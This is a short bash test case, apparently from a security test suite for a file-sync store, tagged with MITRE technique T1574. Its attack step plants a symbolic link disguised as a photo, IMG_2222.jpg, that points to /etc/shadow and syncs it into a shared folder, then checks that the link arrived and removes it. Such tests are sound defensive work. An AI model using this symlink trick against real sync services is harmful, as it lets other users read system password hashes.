# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1574
about="a client sends a symbolic link that leads other users of the store to a file of the system"
attack() {
	rm -rf "$state/planted"
	mkdir -p "$state/planted"
	ln -s /etc/shadow "$state/planted/IMG_2222.jpg"
	sync -l "$state/planted/" $url/photos/camera/
}
effect() { [ -L $store/photos/camera/IMG_2222.jpg ]; }
after() { rm -f $store/photos/camera/IMG_2222.jpg; }
